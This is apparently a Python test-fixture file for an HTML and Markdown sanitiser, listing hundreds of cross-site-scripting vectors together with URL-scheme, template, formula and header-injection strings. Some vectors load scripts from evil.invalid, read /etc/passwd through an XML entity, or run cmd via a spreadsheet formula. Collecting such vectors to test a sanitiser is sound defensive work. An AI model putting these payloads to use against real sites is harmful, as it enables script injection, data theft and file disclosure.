# ruff: noqa: E501 (every vector on one line, as it is thrown)
"""What an attacker tries: HTML, Markdown, addresses, template marks. ``__hit()`` is what must never run."""

# each on its own would run, or did run in some browser or behind some cleaner
HTML = r'''
<script>__hit()</script>
<script src=https://evil.invalid/x.js></script>
<script/src=data:,__hit()></script>
<script type=module>__hit()</script>
<script>__hit()//
<script x>__hit()</script y>
<SCRIPT>__hit()</SCRIPT>
</script><script>__hit()</script>
</style><script>__hit()</script>
</title><script>__hit()</script>
</textarea><script>__hit()</script>
--><script>__hit()</script>
]]><script>__hit()</script>
"><script>__hit()</script>
'><script>__hit()</script>
\"><script>__hit()</script>
<img src=x onerror=__hit()>
<img src=x onerror="__hit()">
<img src=x:x onerror=__hit()>
<img """><script>__hit()</script>">
<img src=x onerror	=	__hit()>
<img src=1 href=1 onerror="__hit()"></img>
<img srcset=",,," onerror=__hit()>
<img src=x onerror=&#95;&#95;hit()>
<img src onerror /" '"= alt=__hit()//">
<img src="pic.png" onload=__hit()>
<img src="pic.png" alt="x" title="y" style="background:url(javascript:__hit())">
<image src=x onerror=__hit()>
<a href=javascript:__hit()>一</a>
<a href="javascript:__hit()">一</a>
<a href="java&#9;script:__hit()">一</a>
<a href="java&NewLine;script&colon;__hit()">一</a>
<a href="&#x6A;avascript:__hit()">一</a>
<a href=" &#14; javascript:__hit()">一</a>
<a href="javascript&#58;__hit()">一</a>
<a href="data:text/html,<script>parent.__hit()</script>">一</a>
<a href="data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+">一</a>
<a href="vbscript:msgbox(1)">一</a>
<a href="https://ok.example/" onclick=__hit() onmouseover=__hit()>一</a>
<a href="https://ok.example/" target=_blank ping="https://evil.invalid/p">一</a>
<a xlink:href="javascript:__hit()">一</a>
<p onmouseover=__hit() onfocus=__hit() tabindex=1 autofocus>话</p>
<div style="width:expression(__hit())">话</div>
<div style="background-image:url('javascript:__hit()')">话</div>
<div style="background:url(https://evil.invalid/b.png)">话</div>
<div style="-moz-binding:url(https://evil.invalid/x.xml#a);behavior:url(x.htc)">话</div>
<p style="position:fixed;inset:0;z-index:9999;background:red">盖住</p>
<style>@import 'https://evil.invalid/x.css';*{background:url(https://evil.invalid/c)}</style>
<style><img src="</style><img src=x onerror=__hit()//">
<link rel=stylesheet href=https://evil.invalid/x.css>
<link rel=import href=data:text/html,<script>__hit()</script>>
<base href=https://evil.invalid/>
<base href="javascript:/a/-__hit()///////"><a href=../lol/safari.html>一</a>
<meta http-equiv=refresh content="0;url=javascript:__hit()">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>__hit()</script>">
<iframe src=javascript:parent.__hit()></iframe>
<iframe srcdoc="<script>parent.__hit()</script>"></iframe>
<iframe src="data:text/html,<script>parent.__hit()</script>"></iframe>
<iframe onload=__hit()></iframe>
<iframe src=https://evil.invalid/></iframe>
<frameset onload=__hit()><frame src=javascript:__hit()>
<object data=javascript:__hit()></object>
<object data="data:text/html,<script>parent.__hit()</script>"></object>
<embed src=javascript:__hit()>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__hit()'/>">
<applet code=X archive=https://evil.invalid/x.jar></applet>
<portal src=https://evil.invalid/ onload=__hit()>
<form action=javascript:__hit()><input type=submit></form>
<form><button formaction=javascript:__hit()>一</button></form>
<form id=x></form><button form=x formaction=javascript:__hit()>一</button>
<input onfocus=__hit() autofocus>
<input type=image src=x onerror=__hit()>
<isindex type=image src=1 onerror=__hit()>
<select onfocus=__hit() autofocus><option>一</select>
<textarea onfocus=__hit() autofocus></textarea>
<keygen autofocus onfocus=__hit()>
<button popovertarget=x>一</button><x id=x popover onbeforetoggle=__hit()>
<video src=x onerror=__hit()></video>
<video><source onerror=__hit()></video>
<video poster=javascript:__hit()></video>
<audio src=x onerror=__hit()></audio>
<audio autoplay src="https://evil.invalid/x.mp3">
<track src=x onerror=__hit()>
<details open ontoggle=__hit()><summary>一</summary>话</details>
<marquee onstart=__hit()>话</marquee>
<body onload=__hit()>
<body background="javascript:__hit()">
<html onmouseover=__hit()>
<table background="javascript:__hit()"><tr><td background="javascript:__hit()">格</table>
<svg onload=__hit()></svg>
<svg/onload=__hit()>
<svg><script>__hit()</script></svg>
<svg><script href="data:,__hit()"/></svg>
<svg><a xlink:href="javascript:__hit()"><text y=20>一</text></a></svg>
<svg><a><animate attributeName=href values=javascript:__hit() /><text x=20 y=20>一</text></a></svg>
<svg><animate onbegin=__hit() attributeName=x dur=1s></svg>
<svg><set attributeName=onmouseover to=__hit()></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a/></svg>#x"/></svg>
<svg><foreignObject><iframe src=javascript:parent.__hit()></iframe></foreignObject></svg>
<svg><style><img src=x onerror=__hit()></style></svg>
<svg><style><!--</style><img src=x onerror=__hit()>--></svg>
<svg></p><style><a id="</style><img src=1 onerror=__hit()>">
<svg><desc><table><script>__hit()</script></table></desc></svg>
<svg><title><style></title><img src=x onerror=__hit()></style>
<math><a xlink:href="javascript:__hit()">一</a></math>
<math href="javascript:__hit()">一</math>
<math><mtext><table><mglyph><style><img src=x onerror=__hit()></style>
<math><mtext></p><mglyph><svg><mtext><style><a title="</style><img src onerror=__hit()>">
<math><annotation-xml encoding="text/html"><img src=x onerror=__hit()></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=__hit()>
<noscript><p title="</noscript><img src=x onerror=__hit()>">
<noembed><img title="</noembed><img src=x onerror=__hit()>">
<xmp><p title="</xmp><img src=x onerror=__hit()>">
<plaintext><img src=x onerror=__hit()>
<template><script>__hit()</script></template>
<template shadowrootmode=open><img src=x onerror=__hit()></template>
<!--><img src=x onerror=__hit()>-->
<!-- --!><img src=x onerror=__hit()> -->
<!-- ><img title="--><img src=x onerror=__hit()>" -->
<!-- -->--><img src=x onerror=__hit()>
<![if gte IE 4]><script>__hit()</script><![endif]>
<?php echo 1; ?><img src=x onerror=__hit()>
<?><img src=x onerror=__hit()>
</p/><img src=x onerror=__hit()>
<x onclick=__hit() tabindex=1 onfocus=__hit() autofocus>话</x>
<x/onpointerenter=__hit()>话
<x style="animation-name:r" onanimationstart=__hit()></x>
<x-formula tex="x" onmouseover=__hit()></x-formula>
<x-video src="javascript:__hit()" title="片"></x-video>
<x-audio src="data:text/html,<script>__hit()</script>"></x-audio>
<a id=__hit></a><form name=document><img name=cookie></form>
<p/onclick=__hit()/>话
'''.strip().split("\n")

# harmless as they stand; perhaps not behind a parser that is too kind
INERT = r"""
<scr<script>ipt>__hit()</scr</script>ipt>
<img/src=x/onerror=__hit()>
<img src=`x`onerror=__hit()>
<a href='https://ok.example/"onmouseover="__hit()'>一</a>
<td onmouseover=__hit()>格
<svg><![CDATA[<img src=x onerror=__hit()>]]></svg>
<listing>&lt;img src=x onerror=__hit()&gt;</listing>
<comment><img src="</comment><img src=x onerror=__hit()>">
<!--!><img src=x onerror=__hit()>-->
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><p>&e;</p>
<?xml-stylesheet href="javascript:__hit()"?>
</ <img src=x onerror=__hit()>
<//img src=x onerror=__hit()>
<x-formula tex='</svg><script>__hit()</script>'></x-formula>
<x-card title="&lt;img src=x onerror=__hit()&gt;" url="javascript:__hit()"></x-card>
<x-policy title="题" url="javascript:__hit()"></x-policy>
<x-live-stream url="javascript:__hit()" title="直播"></x-live-stream>
<x-video src="https://ok.example/&quot;onerror=&quot;__hit()" title="片"></x-video>
<x-ref label='"><img src=x onerror=__hit()>'></x-ref>
<x-quote cite='"><img src=x onerror=__hit()>'>话</x-quote>
<x-with lang='"onmouseover="__hit()' ai=yes>话</x-with>
<span lang='en" onmouseover="__hit()'>话</span>
<p lang="javascript:__hit()" align='"onclick="__hit()'>话</p>
<ol start='1" onclick="__hit()'><li value='"onclick=__hit()'>项</ol>
<h1 id="__proto__" name=body>题</h1>
<div data-line='1" onclick="__hit()' class=x id=y>话</div>
＜script＞__hit()＜/script＞
﹤img src=x onerror=__hit()﹥
<ſcript>__hit()</ſcript>
&lt;script&gt;__hit()&lt;/script&gt;
&amp;lt;script&amp;gt;__hit()&amp;lt;/script&amp;gt;
&#60;img src=x onerror=__hit()&#62;
&#x3c;img src=x onerror=__hit()&#x3e
&lt;img src=x onerror=__hit()&gt
\x3cimg src=x onerror=__hit()\x3e
\u003cimg src=x onerror=__hit()\u003e
%3Cimg%20src%3Dx%20onerror%3D__hit()%3E
+ADw-script+AD4-__hit()+ADw-/script+AD4-
""".strip().split("\n")

MARKDOWN = r"""
[一](javascript:__hit())
[一](<javascript:__hit()>)
[一](JaVaScRiPt:__hit() "题")
[一](java\script:__hit())
[一](&#106;avascript:__hit())
[一](&#x6A;&#x61;vascript&colon;__hit())
[一](javascript&#58;__hit())
[一](j&#97;v&#97;script:__hit())
[一](\x01javascript:__hit())
[一](vbscript:msgbox(1))
[一](data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+)
[一](https://ok.example/"onmouseover="__hit())
[一](https://ok.example/ "题" onmouseover="__hit()")
[一](https://ok.example/ '"><img src=x onerror=__hit()>')
[一](https://ok.example/<img src=x onerror=__hit()>)
[一](<https://ok.example/"><script>__hit()</script>>)
[<img src=x onerror=__hit()>](https://ok.example/)
[一](//evil.invalid/x)
[一](\\evil.invalid\x)
[一](file:///etc/passwd)
[一](blob:https://ok.example/x)
[一](about:blank)
[一](mailto:a@b.example?subject="><img src=x onerror=__hit()>)
[一](tel:"onclick="__hit())
[![x](pic.png)](javascript:__hit())
![x](javascript:__hit())
![x](data:image/svg+xml,<svg onload=__hit()>)
![x](data:text/html,<script>__hit()</script>)
![x"onerror="__hit()](pic.png)
![x](pic.png "题"onerror="__hit())
![x](pic.png '"><script>__hit()</script>')
![x](pic.png){credit="\"onerror=__hit()" licence="<img src=x onerror=__hit()>"}
![x](pic.png){focus="1,1\" onerror=__hit()" onerror=__hit()}
![<script>__hit()</script>](pic.png)
![x](../../../../etc/passwd)
![x](/etc/passwd)
![x](https://evil.invalid/p.png)
<javascript:__hit()>
<JAVASCRIPT:__hit()>
<https://ok.example/"onmouseover="__hit()>
<a@b.example"onclick="__hit()>
[一]: javascript:__hit()
[一][二]
[二]: <javascript:__hit()> "题"
[一][三]

[三]: https://ok.example/ '"><img src=x onerror=__hit()>'
[^"><img src=x onerror=__hit()>]
话[^一]

[^一]: <img src=x onerror=__hit()> [二](javascript:__hit())
`<script>__hit()</script>`
``` "><script>__hit()</script>
<img src=x onerror=__hit()>
```
```{.x onclick=__hit()}
</code></pre><script>__hit()</script>
```
    </code></pre><script>__hit()</script>
# <script>__hit()</script> {onclick=__hit()}
> <img src=x onerror=__hit()>
- <img src=x onerror=__hit()>
| <img src=x onerror=__hit()> | b |
|---|:-:|
| [一](javascript:__hit()) | `<script>__hit()</script>` |
$<img src=x onerror=__hit()>$
$\href{javascript:__hit()}{x}$
$\text{</svg><script>__hit()</script>}$
$$
\url{javascript:__hit()}
$$
$x_{"onload="__hit()}$
[话]{ai onclick=__hit()}
[话]{lang="en\" onclick=\"__hit()"}
[话]{lang=javascript:__hit()}
[<script>__hit()</script>]{ai}
~~<img src=x onerror=__hit()>~~
H~<script>__hit()</script>~O
**<img src=x **onerror=__hit()>
<img src=x **onerror**=__hit()>
<p title="`">`<img src=x onerror=__hit()>
<a href="`"><img title="`"><img src=x onerror=__hit()>
`<a href="`javascript:__hit()`">`一</a>
<div markdown=1 onclick=__hit()>话</div>
""".strip("\n").split("\n")

SCHEMES = (
    "javascript:__hit()", "javascript://ok.example/%0a__hit()", "JAVASCRIPT:__hit()", "\tjavascript:__hit()",
    "java\tscript:__hit()", "javascript\n:__hit()", "\x01javascript:__hit()", "javascript\u200b:__hit()",
    "\u202ejavascript:__hit()", "javascript：__hit()", "ｊavascript:__hit()", "vbscript:__hit()", "livescript:__hit()",
    "data:text/html,<script>__hit()</script>", "data:image/svg+xml,<svg onload=__hit()>", "data:,x",
    "view-source:javascript:__hit()", "jar:https://evil.invalid!/x", "feed:javascript:__hit()", "blob:x", "file:///x",
    "filesystem:https://ok.example/x", "about:blank", "//evil.invalid/x", "/\\evil.invalid/x", "\\\\evil.invalid",
    "https://ok.example/\"onclick=\"__hit()", "https://ok.example/'onclick='__hit()", "https://ok.example/ onclick=x",
    "https://ok.example/><script>__hit()</script>", "https://ok.example/\x00\"><script>__hit()</script>",
    "https:javascript:__hit()", "http:/javascript:__hit()", "https://[::1", "https://ok.example:x/", "http://",
    "mailto:\"onclick=__hit()", "tel:+86\" onclick=\"__hit()", "https://ok.example/?a=1&quot;onclick=&quot;__hit()",
    "javascript&colon;__hit()", "&#106;avascript:__hit()", "%6aavascript:__hit()", "x:y", "asset:" + "0" * 64,
)  # fmt: skip

TEMPLATES = (
    "{{7*7}}{{config}}", "{% import os %}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "%(a)s%s%n{0}{a.__class__}", "$(id)`id`",
    "\x02pic-0\x03", "\x02own_link\x03", "\x02ygc:0\x03", "\x04accent\x05", "\x04site\x05", "&#2;yg&#3;",
    "&#x4;accent&#x5;", "\\u0004accent\\u0005", "\x85\x9b\u2028__hit()\u2029", "\ufeff\ufffe\uffff", "\ud800", "\udfff\ud800",
    "\u202e<tpircs>\u202c", "\u2066<script>\u2069__hit()", "\u200d\u200c\u200b<\u200bscript>__hit()", "\x00<\x00script>__hit()",
    "\x1b[31m\x07", "ﷺ" * 40, "Z͑ͫ̓ͪ̂ͫ" * 20, "]]>", "<![CDATA[", "-->", "--!>", "*/", "\\", "'\"`", "`${__hit()}`", "//<!--",
    "=cmd|'/c calc'!A1", "@SUM(1)", "+1", "../../x", "..%2f..%2fx", "\r\nSet-Cookie: a=b", "&" * 50, "<" * 50, "\"" * 50,
    "<!--" * 20, "&#0;&#xD800;&#x110000;&#99999999999;", "&nosuch;&lt&gt&quot",
)  # fmt: skip
